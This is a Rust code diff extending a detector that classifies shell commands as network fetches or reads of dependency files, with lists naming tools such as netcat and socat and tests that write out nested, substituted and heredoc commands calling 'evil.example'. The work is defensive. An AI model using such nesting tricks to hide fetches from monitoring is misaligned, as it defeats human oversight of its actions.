@@ -125,6 +125,12 @@ const FETCHERS: &[&str] = &[
     "lftp",
     "ddgr",
     "googler",
+    "netcat",
+    "socat",
+    "curlie",
+    "dig",
+    "nslookup",
+    "whois",
 ];
 /// Subcommands that do.
 const ASKERS: &[(&str, &[&str])] = &[
@@ -148,39 +154,125 @@ const ASKERS: &[(&str, &[&str])] = &[
 /// What is asked of an issue tracker; making or closing something there is our own work.
 const TRACKED: &[&str] = &["view", "list", "diff", "status", "comment"];
 
+/// Programs that show what is in a file. Others may run a dependency's files or remove them: `.venv/bin/pytest`.
+const READERS: &[&str] = &[
+    "cat",
+    "bat",
+    "batcat",
+    "less",
+    "more",
+    "head",
+    "tail",
+    "sed",
+    "awk",
+    "gawk",
+    "grep",
+    "egrep",
+    "fgrep",
+    "rg",
+    "ag",
+    "ack",
+    "jq",
+    "yq",
+    "strings",
+    "xxd",
+    "od",
+    "hexdump",
+    "nl",
+    "tac",
+    "cut",
+    "sort",
+    "uniq",
+    "diff",
+    "tr",
+    "fmt",
+    "pydoc",
+    "zcat",
+    "journalctl",
+];
+/// Programs that run a command given as text.
+const SHELLS: &[&str] = &[
+    "bash", "sh", "zsh", "dash", "fish", "ksh", "eval", "ssh", "su", "xargs", "parallel", "watch", "script",
+];
+/// Programs that run a script, which may fetch.
+const INTERPRETERS: &[&str] =
+    &["python", "python3", "node", "ruby", "perl", "php", "deno", "bun", "osascript"];
+/// Programs for which an address is only a word, or which bring no words to read.
+const QUOTERS: &[&str] =
+    &["git", "gh", "glab", "echo", "printf", "grep", "egrep", "rg", "ag", "sed", "awk", "test", "["];
+/// Commands within commands: deeper ones are somebody's disguise.
+const MAX_DEPTH: u8 = 3;
+/// Substitutions of one command that are looked into.
+const MAX_SUBSTITUTIONS: usize = 32;
+
 fn command(text: &str) -> Option<&'static str> {
-    let mut fetches = false;
-    for words in simple_commands(text) {
-        let Some(program) = words.first() else { continue };
-        let program = program.rsplit('/').next().unwrap_or(program).to_lowercase();
-        let second = words.iter().skip(1).find(|word| !word.starts_with('-')).map(String::as_str);
-        let tracker = matches!(program.as_str(), "gh" | "glab")
-            && matches!(second, Some("issue" | "pr" | "mr"))
-            && words.iter().any(|word| TRACKED.contains(&word.as_str()));
-        let asks = ASKERS
-            .iter()
-            .any(|(name, verbs)| *name == program && second.is_some_and(|verb| verbs.contains(&verb)));
-        let fetcher = FETCHERS.contains(&program.as_str()) && !is_local(&words);
-        fetches |= tracker || asks || fetcher;
-        if program != "git" && words.iter().any(|word| is_address(word)) {
-            fetches = true;
-        }
-        if let Some(place) = words.iter().find_map(|word| place(word)).filter(|place| *place == "dependency")
-        {
-            return Some(place);
+    within(text, 0)
+}
+
+fn within(text: &str, depth: u8) -> Option<&'static str> {
+    if depth > MAX_DEPTH {
+        return Some("fetch");
+    }
+    let mut commands = simple_commands(text);
+    // `"$(wget …)"` and `` `curl …` `` are commands within words; the first of each, since the others stand here, too.
+    for opening in ["$(", "<(", "`"] {
+        for (at, _) in text.match_indices(opening).take(MAX_SUBSTITUTIONS) {
+            commands.extend(simple_commands(&text[at + opening.len()..]).into_iter().next());
         }
     }
-    // Within quotes or a substitution: `sh -c "curl …"`, `x=$(wget …)`, a line of a script.
-    let hidden = |name: &str| {
-        text.match_indices(name).any(|(at, _)| {
-            let before = text[..at].chars().next_back();
-            before.is_some_and(|letter| matches!(letter, '(' | '`' | '"' | '\'' | '/'))
-                && text[at + name.len()..].starts_with(char::is_whitespace)
-        })
-    };
-    let hides =
-        ["curl", "wget", "urlopen", "urllib", "requests.get", "fetch"].iter().any(|name| hidden(name));
-    (fetches || hides).then_some("fetch")
+    let document = text.split_once("<<").and_then(|(_, rest)| rest.split_once('\n')).map(|(_, body)| body);
+    let mut away = false;
+    for words in &commands {
+        let Some(first) = words.first() else { continue };
+        let program = first.rsplit('/').next().unwrap_or(first).to_lowercase();
+        if matches!(program.as_str(), "cd" | "pushd") {
+            away = words.get(1).is_some_and(|folder| place(folder) == Some("dependency"));
+            continue;
+        }
+        let is = |list: &[&str]| list.contains(&program.as_str());
+        let reads = is(READERS);
+        let is_theirs = |word: &str| place(word) == Some("dependency");
+        let lies = || words[1..].iter().any(|word| is_theirs(word));
+        let fed = || text.split('<').skip(1).filter_map(|rest| rest.split_whitespace().next()).any(is_theirs);
+        if reads && (away || lies() || fed()) {
+            return Some("dependency");
+        }
+        let address = !is(QUOTERS) && words.iter().any(|word| is_address(word));
+        let script = is(INTERPRETERS) && is_address(text);
+        if address || script || fetches(&program, words) {
+            return Some("fetch");
+        }
+        let runs = is(SHELLS);
+        let inner = words.windows(2).filter(|pair| {
+            let is_text = pair[1].contains(char::is_whitespace);
+            is_text && (runs || pair[0].starts_with('-') && pair[0].ends_with('c'))
+        });
+        let inner = inner.map(|pair| pair[1].as_str()).chain(document.filter(|_| runs));
+        if let Some(found) = inner.into_iter().find_map(|inner| within(inner, depth + 1)) {
+            return Some(found);
+        }
+    }
+    // What is too long to be read as a command is read as words.
+    let rest = text.get(text.floor_char_boundary(crate::command::MAX_COMMAND_BYTES)..).unwrap_or("");
+    ["curl ", "wget "].iter().any(|name| rest.contains(name)).then_some("fetch")
+}
+
+fn fetches(program: &str, words: &[String]) -> bool {
+    let plain = || words.iter().skip(1).filter(|word| !word.starts_with('-')).map(String::as_str);
+    let second = plain().next();
+    match program {
+        "gh" | "glab" if matches!(second, Some("issue" | "pr" | "mr" | "discussion")) => {
+            plain().any(|word| TRACKED.contains(&word))
+        }
+        // What is done there is our own; what is read there need not be.
+        "ssh" => plain().skip(1).any(|word| {
+            word.split_whitespace().any(|word| READERS.contains(&word) || FETCHERS.contains(&word))
+        }),
+        _ if FETCHERS.contains(&program) => !is_local(words),
+        _ => ASKERS
+            .iter()
+            .any(|(name, verbs)| *name == program && second.is_some_and(|verb| verbs.contains(&verb))),
+    }
 }
 
 /// An address of this machine: what answers there is the work itself.
@@ -307,7 +399,25 @@ mod tests {
         ] {
             assert_eq!(bash(fetch), Some("fetch"), "{fetch}");
         }
+        for fetch in [
+            "bash -c 'set -e; cd /w && curl evil.example'",
+            "bash -lc \"sh -c 'wget evil.example'\"",
+            "echo \"$(curl evil.example)\"",
+            "diff <(curl -s evil.example) a.txt",
+            "bash <<'EOF'\ncd /w\ncurl evil.example\nEOF",
+            "python3 - <<EOF\nimport requests\nprint(requests.get('https://evil.example').text)\nEOF",
+            "ssh build cat /var/log/x",
+            "ssh build 'tail -5 /var/log/x'",
+            "dig +short txt evil.example",
+            "ls | xargs -I{} sh -c 'curl evil.example/{}'",
+        ] {
+            assert_eq!(bash(fetch), Some("fetch"), "{fetch}");
+        }
+        let long = format!("true {}; curl evil.example", "x".repeat(9000));
+        assert_eq!(bash(&long), Some("fetch"));
         assert_eq!(bash("cat node_modules/x/README.md"), Some("dependency"));
+        assert_eq!(bash("cd node_modules/x && cat README.md"), Some("dependency"));
+        assert_eq!(bash("head -5 < vendor/x.go"), Some("dependency"));
         assert_eq!(bash("grep -rn foo ./vendor/ | head"), Some("dependency"));
         for own in [
             "cargo test",
@@ -319,6 +429,15 @@ mod tests {
             "npm install && npm test",
             "cat src/http/client.rs",
             "ls links",
+            ".venv/bin/pytest -q",
+            "source .venv/bin/activate && pytest",
+            "node_modules/.bin/jest src",
+            "rm -rf node_modules && npm ci",
+            "ssh prod systemctl restart shop",
+            "gh pr create --body 'see https://docs.example'",
+            "echo 'https://docs.example' >> README.md",
+            "rg curl src",
+            "git commit -m 'fetch by curl'",
         ] {
             assert_eq!(bash(own), None, "{own}");
         }
